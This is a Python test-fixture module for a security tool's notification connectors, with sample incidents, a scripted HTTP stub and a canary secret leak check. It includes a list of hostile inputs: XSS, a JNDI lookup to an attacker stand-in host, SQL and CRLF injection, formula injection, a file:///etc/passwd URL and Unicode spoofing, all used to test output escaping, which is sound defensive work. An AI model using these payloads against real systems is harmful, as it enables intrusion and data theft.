"""What the connector tests share: notifications of every severity and change, hostile text, a scripted `Http`, a clock."""

import datetime as dt
import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, get_args

from aegis.core.errors import ServiceError
from aegis.core.incidents import Severity, Status
from aegis.core.notifications import Button, Change, Fact, Note, Notification
from aegis.core.ports import HttpAnswer, HttpRequest
from aegis.core.secret import Secret

NOW = dt.datetime(2026, 1, 2, 3, 4, 5, 678_000, tzinfo=dt.UTC)
CANARY = "canary5ecretcanary5ecretcanary5e"
SECRET = Secret(CANARY)
CHANGES: tuple[Change, ...] = get_args(Change)
EVERY = [(severity, change) for severity in Severity for change in CHANGES]

HOSTILE = (
    "<!channel> <@U012AB3CD> <!here|x> <!subteam^S1|ops> <https://evil.example|click>",
    "@everyone @here <@&123> <@!123> <#456> </cmd:1> <t:1> <:x:1> <a:x:1>",
    "[click](https://evil.example/?q=1) ![x](https://evil.example/x.png) <https://evil.example>",
    "**bold** __under__ ~~strike~~ ||spoiler|| `code` ```block``` > quote # head - list",
    "[~accountid:123] [link|https://evil.example] {code}x{code} !img.png! h1. big",
    "@slack-ops @pagerduty @all @user@evil.example %%% \n%%%\n# big\n[x](https://evil.example)\n%%%",
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a>",
    "{{$json.secret}} ${jndi:ldap://evil.example/a} {0.__class__} %s %n {% raw %} {{DATE(2026-01-01)}} <at>all</at>",
    "line\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1\x00\x07\x1b[31mred\x1b]8;;http://evil.example\x07x",
    "\u202egnp.exe\u202c \u2066x\u2069 a\u200bb\u200dc\ufeff \U000e0041\U000e0042 \ud800 \udfff \u2028next",
    "http://evil.example www.evil.example evil.example ftp://evil.example mailto:x@evil.example 203.0.113.9 evil。example",
    "HTTPS://EVIL.EXAMPLE/%2e%2e tel:+4912345 javascript:alert(1) data:text/html,x file:///etc/passwd",
    "\"quote\" \\back\\slash\\ 'single' \t tab ; DROP TABLE x; -- =1+1 +1 -1 @SUM(1)",
    "&lt;!channel&gt; &amp;lt; &#60;!channel&#62; &",
)
HUGE = "A" * 300 + " https://evil.example/ <!channel> @everyone " + "é😀&<" * 25_000


class FixedClock:
    def now(self) -> dt.datetime:
        return NOW

    def monotonic_ns(self) -> int:
        return 0

    async def sleep_ms(self, milliseconds: int) -> None:
        raise AssertionError("a connector never sleeps")


def new_id(prefix: str) -> str:
    return f"{prefix}_01JGFIXED0000000000000000"


def notification(
    severity: Severity = Severity.HIGH, change: Change = "opened", *, version: int = 1, **changes: Any
) -> Notification:
    status = {"acknowledged": Status.ACKNOWLEDGED, "resolved": Status.RESOLVED}.get(change, Status.OPEN)
    values: dict[str, Any] = {
        "incident_id": "inc_01JG0000000000000000000001",
        "dedup_key": "inc_01JG0000000000000000000001",
        "version": version,
        "change": change,
        "severity": severity,
        "status": status,
        "title": "Brute force then valid login (user root)",
        "summary": "412 failed logins for root from 203.0.113.9, then one success.\nA new sudo rule was written.",
        "at": NOW,
        "facts": (
            Fact("Entity", "user root"),
            Fact("First seen", "2026-01-02 02:58:01 UTC"),
            Fact("Detections", "3"),
        ),
        "actions": ("Lock the account root.", "Block 203.0.113.9 at the edge.", "Rotate keys read after 02:59 UTC."),
        "techniques": ("T1110.001", "T1078"),
        "link": "http://127.0.0.1:8787/incidents/inc_01JG0000000000000000000001",
        "document": {"schema": "aegis.incident/1", "id": "inc_01JG0000000000000000000001", "count": 3},
        "note": Note("Ada Lovelace", "pagerduty", "Locked the account.") if change == "noted" else None,
    }
    return Notification(**{**values, **changes})


def hostile(text: str, severity: Severity = Severity.CRITICAL, change: Change = "opened") -> Notification:
    """A notification with the text in every place where text from a log can stand."""
    return notification(
        severity,
        change,
        title=text,
        summary=text,
        source=text,
        facts=tuple(Fact(f"{text} {number}", text) for number in range(26)),
        actions=(text,) * 9,
        techniques=("T1110", text),
        link=text,
        buttons=(Button(label=text, verb="acknowledge", url=text),),
        note=Note(text, text, text) if change == "noted" else None,
        document={"raw": text, "n": 2**70, "nested": {text: [text]}},
    )


@dataclass
class ScriptedHttp:
    """Answers in order with what the test wrote down; keeps what was asked."""

    answers: Sequence[HttpAnswer | ServiceError]
    sent: list[HttpRequest] = field(default_factory=list)

    async def send(self, request: HttpRequest) -> HttpAnswer:
        self.sent.append(request)
        answer = self.answers[len(self.sent) - 1]
        if isinstance(answer, ServiceError):
            raise answer
        return answer

    def bodies(self) -> list[Any]:
        return [json.loads(request.body) if request.body else None for request in self.sent]


def answer(status: int, body: object = b"", headers: Mapping[str, str] | None = None) -> HttpAnswer:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return HttpAnswer(status=status, headers=headers or {}, body=raw)


def strings_in(value: object) -> list[str]:
    """Every text in a JSON value, keys too."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, Mapping):
        return [text for key, inner in value.items() for text in (*strings_in(key), *strings_in(inner))]
    if isinstance(value, list | tuple):
        return [text for inner in value for text in strings_in(inner)]
    return []


def shown_secret(error: BaseException) -> bool:
    """Whether the canary shows anywhere in an error or in what it was raised from."""
    chain: BaseException | None = error
    while chain is not None:
        if CANARY in f"{chain} {chain!r} {chain.args} {vars(chain)}":
            return True
        chain = chain.__cause__ or chain.__context__
    return False
